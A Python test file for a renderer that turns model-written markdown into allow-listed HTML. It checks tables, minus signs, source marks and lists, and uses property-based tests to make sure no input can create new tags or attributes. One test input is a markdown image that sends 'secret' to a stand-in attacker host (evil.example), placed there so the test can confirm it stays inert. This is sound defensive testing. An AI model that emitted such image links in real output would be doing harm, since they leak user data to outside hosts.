"""What a model wrote, on a page: it can say anything and load, link or run nothing."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import given
from hypothesis import strategies as st

from ui.screens.words import plain, words

ALLOWED = {"span", "div", "p", "br", "strong", "ul", "li", "table", "thead", "tbody", "tr", "th", "td"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.attributes |= set(attrs)


def tags_of(html: str) -> Tags:
    parsed = Tags()
    parsed.feed(html)
    return parsed


def test_an_image_and_a_link_stay_text() -> None:
    html = words("![x](http://evil.example/?d=secret) [click](https://evil.example) <img src=//evil.example>")
    assert tags_of(html).seen == {"div", "p"}


def test_a_table_keeps_its_figures_to_the_right() -> None:
    html = words("| Household | Dollars |\n|---|---:|\n| Alder | $41,200 |\n| Birch | −3.5 % |")
    assert '<td class="n">$41,200</td>' in html
    assert '<td class="n">−3.5 %</td>' in html
    assert '<td class="short">Alder</td>' in html
    assert "---" not in html


def test_a_hyphen_before_a_figure_is_a_minus_and_no_other_is() -> None:
    assert words("acc-1001: -6.50 points on 2022-12-28, -$5") == (
        '<div class="words"><p>acc-1001: −6.50 points on 2022-12-28, −$5</p></div>'
    )


def test_a_mark_names_its_source_and_one_without_a_source_stays_text() -> None:
    html = words("Exxon gained 84.1%. [1] [2]", ["Sector dispersion <2022>"])
    assert '84.1%. <span class="ref" title="Sector dispersion &lt;2022&gt;">1</span> [2]' in html


def test_a_figure_without_a_source_is_marked() -> None:
    assert '12 % <span class="mark">no source</span>' in words("It will gain 12 % (no source)")


def test_lists_and_bold_are_read() -> None:
    assert (
        words("- **one**\n- two")
        == '<div class="words"><ul><li><strong>one</strong></li><li>two</li></ul></div>'
    )


def test_dollar_signs_set_no_formula() -> None:
    assert "$5 to $7" in words("from $5 to $7")
    assert plain("$5") == "\\$5"


@given(st.text(alphabet=st.sampled_from(list("<>&\"'*|-#![]()`$ \n\tabc:/=")), max_size=200))
def test_no_text_makes_a_tag_or_an_attribute_of_its_own(text: str) -> None:
    found = tags_of(words(text, [text] * 9))
    assert found.seen <= ALLOWED
    assert {name for name, _ in found.attributes} <= {"class", "scope", "title"}
